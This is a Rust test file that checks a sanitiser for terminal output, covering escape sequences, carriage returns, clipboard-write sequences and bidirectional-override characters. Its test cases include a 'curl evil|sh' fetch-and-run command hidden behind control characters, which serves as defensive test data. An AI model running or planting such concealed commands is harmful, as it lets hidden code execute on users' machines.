//! Output of steps, cleaned for a line of text.

use std::fmt::Write as _;

use proptest::prelude::*;

use super::{clean, clean_onto, written_out};

const FRAGMENTS: [&str; 36] = [
    "\x1b",
    "\x1b[",
    "\x1b[31m",
    "\x1b[0;1:2m",
    "\x1b[?25h",
    "\x1b]0;",
    "\x1bP",
    "\x1b(",
    "\x1b#",
    "\x07",
    "\x1b\\",
    "\u{9b}",
    "\u{9c}",
    "\u{85}",
    "\r",
    "\t",
    "\x7f",
    "\0",
    "m",
    "1",
    "1;2",
    ";",
    "[",
    "]",
    "\\",
    " ",
    "a",
    "B",
    "é",
    "Â",
    "日",
    "😀",
    "0123456789012345678901234567890123456789",
    "?",
    "~",
    "(",
];

proptest! {
    #[test]
    fn cleaning_is_as_reading_character_by_character(numbers in prop::collection::vec(any::<u16>(), 0..40)) {
        let mut line = Vec::new();
        for number in numbers {
            let [chosen, byte] = number.to_le_bytes();
            match FRAGMENTS.get(usize::from(chosen % 38)) {
                Some(text) => line.extend_from_slice(text.as_bytes()),
                None => line.push(byte),
            }
        }
        let whole = line.strip_suffix(b"\r").unwrap_or(&line);
        let last = whole.rsplit(|&b| b == b'\r').next().unwrap_or(whole);
        let text = String::from_utf8_lossy(last);
        for colors in [false, true] {
            prop_assert_eq!(clean(&line, colors), plain_without_controls(&text, colors), "{}", colors);
        }
        let mut kept = "before".to_owned();
        clean_onto(&line, &mut kept);
        prop_assert_eq!(kept, format!("before{}", clean(&line, false)));
    }
}

#[test]
fn output_is_cleaned_of_everything_that_moves_the_cursor() {
    for (raw, plain, colored) in [
        (&b"plain"[..], "plain", "plain"),
        (b"50%\r100%\r", "100%", "100%"),
        (b"\x1b[31mred\x1b[0m", "red", "\x1b[31mred\x1b[0m\x1b[0m"),
        (b"a\x1b[2J\x1b[1;1Hb", "ab", "ab"),
        (b"\x1b]0;title\x07text\x1b]8;;http://x\x1b\\link", "textlink", "textlink"),
        (b"a\tb\x08\x07c", "a\tbc", "a\tbc"),
        (b"\xff\xfe", "\u{fffd}\u{fffd}", "\u{fffd}\u{fffd}"),
        ("\u{9b}31mcsi é".as_bytes(), "csi é", "\x1b[31mcsi é\x1b[0m"),
        (b"cut \x1b[", "cut ", "cut "),
    ] {
        assert_eq!(clean(raw, false), plain, "{raw:?}");
        assert_eq!(clean(raw, true), colored, "{raw:?}");
    }
}

/// The same, character by character.
fn plain_without_controls(text: &str, colors: bool) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut colored = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\x1b' => match chars.next() {
                Some('[') => colored |= control_sequence(&mut chars, colors, &mut kept),
                Some(']' | 'P' | '_' | '^' | 'X') => skip_string(&mut chars),
                // Charset selections have one more character.
                Some('(' | ')' | '*' | '+' | '#') => {
                    chars.next();
                }
                _ => {}
            },
            '\u{9b}' => colored |= control_sequence(&mut chars, colors, &mut kept),
            '\t' => kept.push('\t'),
            c if c.is_control() => {}
            c => kept.push(c),
        }
    }
    if colored {
        kept.push_str("\x1b[0m");
    }
    kept
}

/// Reads a sequence to its end; returns whether it was a colour that was kept.
fn control_sequence(
    chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
    colors: bool,
    kept: &mut String,
) -> bool {
    let mut parameters = String::new();
    for c in chars.by_ref() {
        match c {
            '\x40'..='\x7e' => {
                let is_color =
                    c == 'm' && parameters.chars().all(|p| p.is_ascii_digit() || p == ';' || p == ':');
                if is_color && colors {
                    let _ = write!(kept, "\x1b[{parameters}m");
                }
                return is_color && colors;
            }
            '\x20'..='\x3f' if parameters.len() < 64 => parameters.push(c),
            _ => return false,
        }
    }
    false
}

/// Skips a string such as a window title, to its bell or terminator.
fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        if c == '\x07' || c == '\u{9c}' {
            return;
        }
        if c == '\x1b' && chars.peek() == Some(&'\\') {
            chars.next();
            return;
        }
    }
}

#[test]
fn what_a_terminal_would_obey_is_written_out() {
    let cases = [
        ("plain é 日\ttext\nand more", "plain é 日\ttext\nand more"),
        ("curl evil|sh #\recho token", "curl evil|sh #\\u000decho token"),
        ("echo a #\x1b]\ncurl evil|sh\n#\x07", "echo a #\\u001b]\ncurl evil|sh\n#\\u0007"),
        ("\x1b]52;c;AAAA\x07", "\\u001b]52;c;AAAA\\u0007"),
        ("a\u{9b}2Jb\x7f", "a\\u009b2Jb\\u007f"),
        ("\u{202e}desrever\u{2066}\u{2069}", "\\u202edesrever\\u2066\\u2069"),
        ("… – ‘quoted’ ✓", "… – ‘quoted’ ✓"),
        ("\x1b[2Jx", "\\u001b[2Jx"),
    ];
    for (text, expected) in cases {
        for colors in [false, true] {
            assert_eq!(written_out(text, colors), expected, "{text:?}");
        }
    }
    assert_eq!(written_out("\x1b[31mred\x1b[0m\x1b[2K", true), "\x1b[31mred\x1b[0m\\u001b[2K");
    assert_eq!(written_out("\x1b[31mred", false), "\\u001b[31mred");
}

proptest! {
    #[test]
    fn written_out_text_holds_nothing_to_obey(text in any::<String>()) {
        let shown = written_out(&text, false);
        prop_assert!(shown.chars().all(|c| !c.is_control() || c == '\n' || c == '\t'), "{shown:?}");
        let text = text.replace(|c: char| c.is_control(), "");
        let shown = written_out(&text, true);
        prop_assert_eq!(clean(shown.as_bytes(), true), shown.as_ref());
    }
}

#[test]
fn what_turns_the_direction_of_writing_is_left_out_of_a_line() {
    assert_eq!(clean("a\u{202e}b\u{2066}c… – ✓".as_bytes(), true), "abc… – ✓");
}
